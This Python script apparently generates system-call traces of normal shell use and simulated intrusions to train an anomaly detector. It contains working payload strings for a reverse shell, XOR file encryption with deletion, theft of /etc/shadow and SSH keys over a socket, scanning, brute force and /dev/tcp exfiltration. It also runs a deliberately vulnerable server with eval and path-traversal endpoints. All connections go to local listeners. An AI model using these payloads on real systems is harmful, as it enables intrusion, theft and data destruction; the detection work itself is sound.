#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""record.py OUT [SCALE [PART,... [SEED]]]: system calls of ordinary programs on this machine, and of
what an intruder does, as a data set in the format `bailey train --format syscalls`
reads: one file a process (OUT/host, OUT/mixed) or a server's whole recording (OUT/server),
with the names of its calls. Sessions are apart: train, test, attack; seeds are
fixed. Nothing leaves the machine: what "reverse shell" and "exfiltration" connect
to is a listener of this script on 127.0.0.1.
"""
import os
import random
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

# Not what a user has before it: a python3 that is a script of many processes, say.
SYSTEM = "/usr/sbin:/usr/bin:/sbin:/bin"
CALL = re.compile(r"^(?:\d+ +)?([a-z_0-9]+)\(")


def calls(path):
    with open(path, errors="replace") as f:
        for line in f:
            m = CALL.match(line)
            if m:
                yield m.group(1)


class Sink:
    """A listener that reads what it is sent, and sends a command if it has one."""

    def __init__(self, greeting=b""):
        self.greeting = greeting
        self.s = socket.create_server(("127.0.0.1", 0))
        self.port = self.s.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            c, _ = self.s.accept()
            threading.Thread(target=self.one, args=(c,), daemon=True).start()

    def one(self, c):
        try:
            c.sendall(self.greeting)
            c.settimeout(5)
            while c.recv(65536):
                pass
        except OSError:
            pass
        c.close()


SINK = Sink()
SHELL = Sink(b"id; uname -a; cat /etc/passwd; ls -la /tmp; ps; exit\n")


def tree(r, top, files=25):
    """A folder with some files to work on."""
    os.makedirs(top, exist_ok=True)
    words = "alpha beta gamma delta system call trace kernel module policy".split()
    for i in range(files):
        d = os.path.join(top, "d%d" % r.randrange(5))
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "f%d.txt" % i), "w") as f:
            for _ in range(r.randrange(3, 300)):
                f.write(" ".join(r.choices(words, k=8)) + " %d\n" % r.randrange(99))
    with open(os.path.join(top, "p.c"), "w") as f:
        f.write("#include <stdio.h>\nint main(void){\n")
        for i in range(r.randrange(3, 40)):
            f.write('printf("%%d\\n", %d);\n' % i)
        f.write("return 0;}\n")
    return top


def normal(r, w):
    """A random thing that a user does in folder @w."""
    d = r.randrange(5)
    word = r.choice(["alpha", "kernel", "99", "x.*y"])
    n = r.randrange(1, 400)
    git = "git -c user.name=a -c user.email=a@b -C %s/g " % w
    return r.choice([
        "ls -l %s /usr/lib" % w, "ls -R /usr/share/perl", "find %s -name '*%d*'" % (w, d),
        "find /usr/share/doc -maxdepth 2 -newer /etc/hostname | head -%d" % n,
        "grep -rn %s %s | wc -l" % (word, w), "sort -R %s/d*/* | uniq -c | sort -n | tail" % w,
        "tar czf %s/a.tgz -C %s d%d" % (w, w, d), "tar tzf %s/a.tgz" % w,
        "gzip -c %s/d*/* > %s/all.gz" % (w, w), "gzip -dc %s/all.gz | head -%d" % (w, n),
        "gcc -O%d -o %s/p %s/p.c && %s/p" % (r.randrange(3), w, w, w),
        "sed s/alpha/omega/ %s/d*/* > %s/out.txt" % (w, w),
        "awk '{s+=$9} END {print s}' %s/d*/*" % w, "sha256sum %s/d*/*" % w,
        "sqlite3 %s/db 'create table if not exists t(a,b); insert into t values(%d,1);"
        "select count(*) from t where a>%d'" % (w, n, n // 2),
        git + "init -q; cp -r %s/d%d %s/g/; %sadd .; %scommit -qm x%d" % (w, d, w, git, git, n),
        git + "log --stat | tail -%d" % n, git + "status; %sdiff HEAD" % git,
        "python3 -c 'import json,os,sys; print(json.dumps(sorted(os.listdir(\"%s\"))))'" % w,
        "python3 -c 'import csv,re,collections; print(collections.Counter("
        "open(\"%s/p.c\").read().split()).most_common(%d))'" % (w, n),
        "perl -ne '$h{$_}++ for split; END{print scalar keys %%h}' %s/d*/*" % w,
        "diff -r %s/d%d %s/d%d | wc" % (w, d, w, (d + 1) % 5), "cp -r %s/d%d %s/copy%d" % (w, d, w, n),
        "rm -rf %s/copy*" % w, "du -s %s /usr/include" % w, "df; uname -a; date; id",
        "for i in $(seq %d); do echo $i; done | xargs -n 50 echo | cat > /dev/null" % n,
        "file %s/* 2>/dev/null || stat %s/*" % (w, w), "ps aux | head -%d" % n,
        "dpkg -l | tail -%d" % n, "man -w ls || cat /etc/services | cut -f1 | sort -u",
        "split -l 50 %s/p.c %s/part; cat %s/part* | md5sum; rm %s/part*" % (w, w, w, w),
        "head -c %d /dev/urandom | base64 | tr a-z A-Z | tail -1" % (n * 50),
        "make -n -f /dev/null x || true; nm %s/p | head -%d" % (w, n),
        "vi --version | head -3; env | sort | head -%d" % n, "openssl rand -hex %d" % n,
    ])


def only_in_test(r, w):
    """Programs that training has not seen: normal days bring such too."""
    return r.choice(["bc <<< '2^%d' || expr %d + 1" % (r.randrange(99), r.randrange(99)),
                     "objdump -d %s/p | tail -%d" % (w, r.randrange(1, 99)),
                     "xxd %s/p.c | head -20 || od %s/p.c | head" % (w, w),
                     "comm %s/p.c %s/out.txt | wc" % (w, w), "locale -a | wc; getent passwd root"])


PY = "python3 -c '%s'"
RSHELL = ('import socket,os,subprocess;s=socket.create_connection(("127.0.0.1",%d));'
          "[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])")
RANSOM = ('import os,hashlib\nfor d,_,fs in os.walk("%s"):\n for f in fs:\n  p=os.path.join(d,f);'
          'b=open(p,"rb").read();k=b"k"*32\n  open(p+".locked","wb").write(bytes(x^107 for x in b))\n'
          "  os.unlink(p)")
STEAL = ('import os,socket\ns=socket.create_connection(("127.0.0.1",%d))\n'
         'for p in ["/etc/passwd","/etc/shadow","/root/.ssh/id_rsa","/proc/self/environ","/etc/ssl/private"]:\n'
         " try: s.sendall(open(p,\"rb\").read())\n except OSError: pass")
SCAN = ('import socket\nfor p in range(1,%d):\n s=socket.socket();s.settimeout(0.05)\n'
        ' s.connect_ex(("127.0.0.1",p));s.close()')
BRUTE = ('import socket\nfor i in range(%d):\n s=socket.create_connection(("127.0.0.1",%d))\n'
         ' s.sendall(b"USER root\\r\\nPASS %%d\\r\\n" %% i);s.recv(5)if 0 else 0;s.close()')
MINER = ('import hashlib,socket,os,threading\ns=socket.create_connection(("127.0.0.1",%d))\n'
         "def w():\n for i in range(400):\n  hashlib.sha256(os.urandom(64)*2000).hexdigest()\n"
         '  s.sendall(b"{}") if i%%40==0 else os.sched_yield()\n'
         "t=[threading.Thread(target=w) for _ in range(3)];[x.start() for x in t];[x.join() for x in t]")
SLOW = ('import socket,time,os\nfor i in range(%d):\n s=socket.create_connection(("127.0.0.1",%d))\n'
        ' s.sendall(os.urandom(40));s.close();time.sleep(0.01)')


def attack(r, w):
    """A random thing that an intruder does, and its kind."""
    n = r.randrange(20, 120)
    return r.choice([
        ("reverse-shell", PY % (RSHELL % SHELL.port)),
        ("ransom", PY % (RANSOM % os.path.join(w, "d%d" % r.randrange(5)))),
        ("steal", PY % (STEAL % SINK.port)), ("scan", PY % (SCAN % (n * 5))),
        ("brute", PY % (BRUTE % (n, SINK.port))), ("miner", PY % (MINER % SINK.port)),
        ("slow-exfil", PY % (SLOW % (n, SINK.port))),
        ("enumerate", "id; uname -a; cat /etc/passwd /etc/shadow /proc/version; ps aux; ls -la /root; "
         "find / -xdev -perm -4000 -maxdepth 3 2>/dev/null; cat /proc/net/tcp; env"),
        ("dropper", "cp /bin/sleep %s/.x%d; chmod 755 %s/.x%d; (%s/.x%d 0.2 &) ; "
         "nohup setsid %s/.x%d 0.1; rm %s/.x%d" % ((w, n) * 5)),
        ("add-user", "mkdir -p %s/root/etc; cp /etc/passwd /etc/group /etc/shadow %s/root/etc; "
         "useradd -P %s/root x%d; cat %s/root/etc/shadow" % (w, w, w, n, w)),
        ("exfil-tar", "tar cz /etc 2>/dev/null | bash -c 'cat > /dev/tcp/127.0.0.1/%d'" % SINK.port),
    ])


def strace(prefix, command, seconds=20):
    try:
        subprocess.run(["strace", "-ff", "-qq", "-s0", "-o", prefix, "bash", "-c", command],
                       stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=seconds, check=False,
                       env={"PATH": SYSTEM, "HOME": "/tmp", "LANG": "C"})
    except subprocess.TimeoutExpired:
        pass


def keep(tmp, out, label, least=10):
    """Moves the traces of a command out of @tmp, one file a process."""
    for f in sorted(os.listdir(tmp)):
        path = os.path.join(tmp, f)
        names = list(calls(path))
        os.unlink(path)
        if len(names) >= least:
            with open(os.path.join(out, "%s.%s" % (label, f.split(".")[-1])), "w") as o:
                o.write(" ".join(names) + "\n")


def host(out, scale, first):
    for part, seed, number in (("train", 1, 150), ("test", 2, 130), ("attack", 3, 90)):
        r = random.Random(first + seed)
        where = os.path.join(out, "host", part)
        os.makedirs(where, exist_ok=True)
        with tempfile.TemporaryDirectory() as w, tempfile.TemporaryDirectory() as tmp:
            for i in range(int(number * scale)):
                if i % 25 == 0:
                    tree(r, os.path.join(w, "t"))
                t = os.path.join(w, "t")
                kind = "normal"
                if part == "attack":
                    kind, command = attack(r, t)
                elif part == "test" and r.random() < 0.1:
                    command = only_in_test(r, t)
                else:
                    command = normal(r, t)
                strace(os.path.join(tmp, "s"), command)
                keep(tmp, where, "%s-%03d" % (kind, i))


SERVER = r'''
import http.server, os, sqlite3, subprocess, urllib.parse, json
root, port = %r, %d
db = sqlite3.connect(os.path.join(root, "db"), check_same_thread=False)
db.execute("create table if not exists notes(a)")
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        u = urllib.parse.urlparse(self.path); q = urllib.parse.parse_qs(u.query); body = b"ok"
        try:
            if u.path == "/file": body = open(os.path.join(root, q["n"][0]), "rb").read()
            elif u.path == "/list": body = json.dumps(os.listdir(os.path.join(root, q["n"][0]))).encode()
            elif u.path == "/add": db.execute("insert into notes values(?)", (q["n"][0],)); db.commit()
            elif u.path == "/get": body = str(db.execute("select count(*) from notes where a>?", (q["n"][0],)).fetchall()).encode()
            elif u.path == "/put": open(os.path.join(root, "up", q["n"][0]), "wb").write(b"x" * 5000)
            elif u.path == "/eval": body = str(eval(q["n"][0])).encode()
            elif u.path == "/quit": os._exit(0)
        except Exception as e: body = str(e).encode()
        self.send_response(200); self.end_headers(); self.wfile.write(body)
http.server.ThreadingHTTPServer(("127.0.0.1", port), H).serve_forever()
'''


def get(port, path):
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(b"GET %s HTTP/1.0\r\n\r\n" % path.encode())
        while s.recv(65536):
            pass


def ask(port, path):
    """As get(), on a machine that may be too busy to answer in time."""
    try:
        get(port, path)
    except OSError:
        pass


def enc(text):
    return "".join("%%%02x" % b for b in text.encode())


def intrude(r, port, kind):
    ev = {
        "rce": '__import__("os").system("id; uname -a; cat /etc/passwd")',
        "reverse-shell": "__import__(\"subprocess\").run([\"python3\",\"-c\",%r])" % (RSHELL % SHELL.port),
        "ransom": "exec(%r)" % (RANSOM % "up"), "steal": "exec(%r)" % (STEAL % SINK.port),
        "slow-exfil": "exec(%r)" % (SLOW % (12, SINK.port)), "scan": "exec(%r)" % (SCAN % 150),
        "miner": "exec(%r)" % (MINER % SINK.port).replace("400", "60"),
    }.get(kind)
    if ev:
        ask(port, "/eval?n=" + enc(ev))
    else:
        for p in ("../../../etc/passwd", "../../../etc/shadow", "../../../proc/self/environ",
                  "../../../etc/ssl/openssl.cnf", "/root/.bashrc"):
            ask(port, "/file?n=" + enc(p))


KINDS = ["rce", "reverse-shell", "ransom", "steal", "slow-exfil", "scan", "miner", "traversal"]


def recording(out, name, r, kind=None):
    """One start of the server with its requests; an attack somewhere among them."""
    with tempfile.TemporaryDirectory() as w:
        root = tree(r, os.path.join(w, "r"))
        os.makedirs(os.path.join(root, "up"))
        with socket.create_server(("127.0.0.1", 0)) as s:
            port = s.getsockname()[1]
        trace = os.path.join(w, "trace")
        p = subprocess.Popen(["strace", "-f", "-qq", "-s0", "-o", trace, "python3", "-c",
                              SERVER % (root, port)], cwd=root, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             env={"PATH": SYSTEM, "HOME": "/tmp"})
        for _ in range(100):
            try:
                get(port, "/")
                break
            except OSError:
                time.sleep(0.1)
        n = r.randrange(40, 90)
        at = r.randrange(5, n) if kind else -1
        for i in range(n):
            if i == at:
                intrude(r, port, kind)
            d, f = r.randrange(5), r.randrange(25)
            ask(port, r.choice(["/file?n=d%d/f%d.txt" % (d, f), "/list?n=d%d" % d, "/add?n=%d" % f,
                                "/get?n=%d" % f, "/put?n=u%d" % f, "/", "/file?n=none"]))
        ask(port, "/quit")
        try:
            p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
        shutil.copyfile(trace, os.path.join(out, name + ".strace"))


def server(out, scale, first):
    for part, seed, number in (("train", 11, 40), ("test", 12, 50), ("attack", 13, 48)):
        r = random.Random(first + seed)
        where = os.path.join(out, "server", part)
        os.makedirs(where, exist_ok=True)
        for i in range(int(number * scale)):
            kind = KINDS[i % len(KINDS)] if part == "attack" else None
            recording(where, "%s-%03d" % (kind or "normal", i), r, kind)


if __name__ == "__main__":
    sys.modules["record"] = sys.modules["__main__"]
    target = sys.argv[1]
    size = float(sys.argv[2]) if len(sys.argv) > 2 else 1
    from mixed import mixed
    for job in (sys.argv[3].split(",") if len(sys.argv) > 3 else ["host", "server", "mixed"]):
        {"host": host, "server": server, "mixed": mixed}[job](target, size,
                                              int(sys.argv[4]) if len(sys.argv) > 4 else 0)
